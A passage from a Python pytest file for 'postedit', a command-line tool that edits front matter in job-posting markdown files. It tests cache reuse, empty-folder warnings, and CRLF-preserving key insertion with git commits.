    monkeypatch.setattr(store, "RACY_NS", -(10**18))  # the files just written count as settled
    if with_schema:
        (site / "postedit.yml").write_text(
            "collections:\n  - {name: jobs, folder: content/_jobs}\n"
        )
    assert main(["list", "--repo", str(site)]) == 0
    cached = cache.cache_file(site)
    assert cached is not None and cached.is_file()
    before = cached.read_bytes()
    loads: list[object] = []
    real_load = cache.load
    monkeypatch.setattr(cache, "load", lambda s: loads.append(s) or real_load(s))
    assert main(["set", "--repo", str(site), "--field", "open=false", "content/_jobs/a.md"]) == 0
    assert b"open: false  # still hiring" in (site / "content/_jobs/a.md").read_bytes()
    assert not loads  # a schema to infer comes from a sample of the postings
    assert cached.read_bytes() == before


@pytest.mark.parametrize(
    ("argv", "out"),
    [
        (["list"], ""),
        (["list", "--format", "json"], "[]\n"),
        (["check"], "postedit check: 0 postings in 0 collections"),
    ],
)
def test_a_folder_without_postings_says_so(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], argv: list[str], out: str
) -> None:
    """`postedit list` in the wrong folder printed nothing at all, and `check` passed having
    checked nothing (a CI job run in the wrong folder): both warn, as the TUI's empty screen
    says, and the output itself stays what it was."""
    (tmp_path / "notes.md").write_text("no front matter here\n")
    assert main([*argv, "--repo", str(tmp_path)]) == 0
    got = capsys.readouterr()
    assert got.out.startswith(out)
    assert got.err.startswith(f"postedit: warning: No postings found in {tmp_path}.\n")
    assert "add a postedit.yml naming the collections' folders" in got.err


def test_no_warning_where_there_are_postings(
    site: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["list", "--repo", str(site)]) == 0
    assert "No postings found" not in capsys.readouterr().err


def test_set_writes_a_new_key_after_the_last_key_not_after_trailing_blank_lines(
    make_repo,  # type: ignore[no-untyped-def]
) -> None:
    crlf = b"---\r\ntitle: Dev\r\ndate: 2024-01-02\r\n\r\n---\r\n## Body\r\n"
    root = make_repo({"content/_jobs/dev.md": crlf})
    target = root / "content/_jobs/dev.md"
    out = run("set", "--repo", str(root), str(target), "--field", "open=true", "--commit")
    assert out.returncode == 0, out.stderr
    assert target.read_bytes() == (
        b"---\r\ntitle: Dev\r\ndate: 2024-01-02\r\nopen: true\r\n\r\n---\r\n## Body\r\n"
    )
    committed = subprocess.run(
        ["git", "show", "HEAD:content/_jobs/dev.md"], cwd=root, check=True, capture_output=True
    ).stdout
    assert committed == target.read_bytes()
    assert git(root, "status", "--porcelain") == ""
